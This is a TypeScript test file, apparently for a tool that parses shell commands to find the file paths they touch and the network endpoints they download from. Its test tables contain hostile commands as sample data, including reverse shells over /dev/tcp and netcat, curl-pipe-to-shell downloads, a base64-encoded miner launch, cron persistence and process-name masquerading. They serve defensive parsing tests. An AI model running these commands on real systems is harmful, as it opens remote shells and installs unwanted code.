import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { commandTargets, downloadsFrom } from './command.ts'

const table: readonly (readonly [command: string, targets: readonly string[]])[] = [
  ['curl -fsSL http://198.51.100.7/x.sh | sh', []],
  ['/usr/bin/curl -o /tmp/x http://h/x && chmod +x /tmp/x && /tmp/x', ['/usr/bin/curl', '/tmp/x']],
  ['nohup ./a >/dev/null 2>&1 &', ['/home/u/a']],
  ['nice -n 19 /tmp/x -B', ['/tmp/x']],
  ['timeout 5 ionice -c 3 setsid /tmp/x', ['/tmp/x']],
  ['env -i A=b PATH=/bin /tmp/x', ['/tmp/x']],
  ['sudo -u u -- /tmp/x', ['/tmp/x']],
  ['exec -a "[kworker/0:1]" /tmp/x', ['/tmp/x']],
  ["sh -c 'cd /tmp; ./q'; ./r", ['/tmp/q', '/home/u/r']],
  ['bash -lc "/opt/a /opt/b"', ['/opt/a', '/opt/b']],
  ['bash x.sh', ['/home/u/x.sh']],
  ['cd /tmp || cd /run; ./x', ['/tmp/x', '/run/x']],
  ['cd /var && (cd tmp && ./a); ./b', ['/var/tmp/a', '/var/b']],
  ['flock -n /run/l -c "/tmp/x y"', ['/run/l', '/tmp/x']],
  ['flock -n /run/l sh x.sh', ['/run/l', '/home/u/x.sh']],
  ['python3 -u x.py --log=/var/log/x', ['/home/u/x.py', '/var/log/x']],
  [`python3 -c "import os; os.system('/tmp/x y'); open('/tmp/z')"`, ['/tmp/z', '/tmp/x']],
  ['perl -w /tmp/x.pl; node /tmp/x.js', ['/tmp/x.pl', '/tmp/x.js']],
  ['java -Xmx1g -jar x.jar', ['/home/u/x.jar']],
  ['test -x /f && /f', ['/f']],
  ['[ -x /f ] || /g', ['/f', '/g']],
  ['if [ -f /f ]; then /g; fi', ['/f', '/g']],
  ['. /f; source g', ['/f', '/home/u/g']],
  ['/lib64/ld-linux-x86-64.so.2 --library-path /l /f', ['/lib64/ld-linux-x86-64.so.2', '/l', '/f']],
  ['cpulimit -l 20 -- /f', ['/f']],
  ['chroot /n /f', ['/n/f', '/n', '/f']],
  ['LD_PRELOAD=/x.so:/y.so true', ['/x.so', '/y.so']],
  ["su - v -c './x'", ['/home/v/x']],
  ['run-parts --report /etc/cron.hourly', ['/etc/cron.hourly']],
  [`X=/tmp/a; $X/b "\${X}"`, ['/tmp/a/b', '/tmp/a']],
  ['$UNKNOWN/b; /opt/$UNKNOWN/c', ['/opt/$UNKNOWN/c']],
  ['~/.x/y; ~v/z; $HOME/w', ['/home/u/.x/y', '/home/v/z', '/home/u/w']],
  [`cat\${IFS}/etc/x`, ['/etc/x']],
  ['echo x >> /var/log/a; cat < b.txt', ['/var/log/a', '/home/u/b.txt']],
  ['sh <(echo /tmp/x)', ['/tmp/x']],
  ['`/tmp/a`; $(/tmp/b $(/tmp/c))', ['/tmp/a', '/tmp/c', '/tmp/b']],
  ['sh <<< "/tmp/x"', ['/tmp/x']],
  ['sh <<E\n/tmp/x\nE\n/tmp/y', ['/tmp/x', '/tmp/y']],
  ["sed -i '/x/d' /etc/y; awk '/a/' /b", ['/etc/y', '/b']],
  ["$'\\x2ftmp\\x2fx'", ['/tmp/x']],
  ['/tm\'p\'/\\x"y"', ['/tmp/xy']],
  ['/tmp/a/../b/./c//d', ['/tmp/b/c/d']],
  ['/tmp/{a,b}', ['/tmp/a', '/tmp/b']],
  ['eval "$(echo L3RtcC8uaGlkZGVuL21pbmVyIC1vIHBvb2w= | base64 -d)"', ['/tmp/.hidden/miner']],
  ['echo "* * * * * /tmp/x" | crontab -', ['/tmp/x']],
  ['cd /tmp; wget http://h/x -O y; busybox sh z', ['/tmp/y', '/tmp/z']],
  ['/tmp/x # /tmp/y', ['/tmp/x']],
  ["'/tmp/a b'", ['/tmp/a b']],
  ['systemd-run --unit x /tmp/x', ['/tmp/x']],
  ['ssh -i /root/.ssh/k host "ls /x" /y; rsync -e "ssh -p 22" /srv b@h:/z', ['/root/.ssh/k', '/srv']],
  ['rsync -a host:/srv/data user@host:b/c /backup/', ['/backup']],
]

for (const [command, targets] of table)
  test(`targets: ${command}`, () => assert.deepEqual(commandTargets(command, { home: '/home/u' }), targets))

test('a bare name is assumed only in the directories given', () => {
  assert.deepEqual(commandTargets('foo x', { path: ['/tmp/.x'] }), ['/tmp/.x/foo'])
  assert.deepEqual(commandTargets('PATH=/tmp/.x:/usr/bin; foo x'), ['/tmp/.x/foo'])
  assert.deepEqual(commandTargets('sh x.sh'), [])
})

const downloads: readonly (readonly [command: string, endpoints: readonly string[]])[] = [
  ['curl -s http://198.51.100.7/x | bash', ['http://198.51.100.7/x']],
  ['cu""rl -s ht\'tp\'://h.example/x', ['http://h.example/x']],
  ['wget -q -O- 198.51.100.7:8080/x', ['198.51.100.7:8080/x']],
  ['{curl,-fsSL,198.51.100.7/x}|sh', ['198.51.100.7/x']],
  ['bash -i >& /dev/tcp/198.51.100.7/443 0>&1', ['198.51.100.7:443']],
  ['nc 198.51.100.7 4444 -e /bin/sh', ['198.51.100.7:4444']],
  ['/tmp/x -o pool.example:3333 -u w', ['pool.example:3333']],
  ['/tmp/x --url=stratum+tcp://pool.example:3333', ['stratum+tcp://pool.example:3333']],
  [`python -c 'urlopen("http://h.example/x").read()'`, ['http://h.example/x']],
  ['curl http://h.example/$(uname -m)', ['http://h.example/$(uname -m)']],
  ['tar czf /backup/a.tgz /srv', []],
]

for (const [command, endpoints] of downloads)
  test(`downloads: ${command}`, () => assert.deepEqual(downloadsFrom(command), endpoints))

test('any text is read without throwing, within bounds', () => {
  const pieces = [
    '$(',
    '`',
    '"',
    "'",
    '${',
    '}',
    ')',
    '(',
    '<<E',
    '\n',
    ' ',
    '|',
    '&',
    ';',
    '\\',
    '$',
    '{a,b}',
    'sh -c ',
    '/tmp/x',
    'cd ',
    'X=',
    '||',
    '~',
    'eval ',
    'echo ',
  ]
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(fc.constantFrom(...pieces)).map(all => all.join('')),
  )
  fc.assert(
    fc.property(text, command => {
      const targets = commandTargets(command, { home: '/root' })
      assert.ok(targets.length <= 64 && targets.every(path => path.startsWith('/')))
      downloadsFrom(command)
    }),
    { numRuns: 1000 },
  )
})

for (const piece of [
  '$(',
  '`',
  '"',
  "'",
  '${',
  '(',
  '<<E\n',
  'cd /a || ',
  'sh -c "',
  'sudo ',
  'a=b ',
  '{a,b}',
  '/a:/b',
  'eval ',
  'echo "a ',
  '\\',
  '$((',
  '<(',
])
  test(`a long text of ${JSON.stringify(piece)} is read in no time`, () => {
    const started = performance.now()
    commandTargets(piece.repeat(65_536))
    assert.ok(performance.now() - started < 4000)
  })
